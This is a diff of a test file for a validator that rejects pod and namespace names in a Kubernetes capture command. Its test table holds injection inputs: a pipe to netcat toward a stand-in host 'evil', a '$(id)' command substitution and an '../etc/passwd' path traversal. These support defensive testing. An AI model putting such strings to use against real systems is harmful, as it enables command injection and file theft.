@@ -63,7 +63,7 @@ describe('parseCaptureCommand refuses words that are not Kubernetes names', () =
     ['web-1 | nc evil 80', ['`|`', 'Unexpected']],
     ['web-1 -n "$(id)"', ['`"$(id)"`', 'not a valid namespace name']],
     ['../etc/passwd', ['`../etc/passwd`', 'not a valid pod name']],
-    ['pod/web-1', ['`pod/web-1`', 'not a valid pod name']],
+    ['pod/web_1', ['`web_1`', 'not a valid pod name']],
     ['web_1', ['`web_1`', 'not a valid pod name']],
     ['web-', ['`web-`', 'not a valid pod name']],
     ['Web-1', ['`Web-1`', 'lowercase', 'did you mean `web-1`?']],
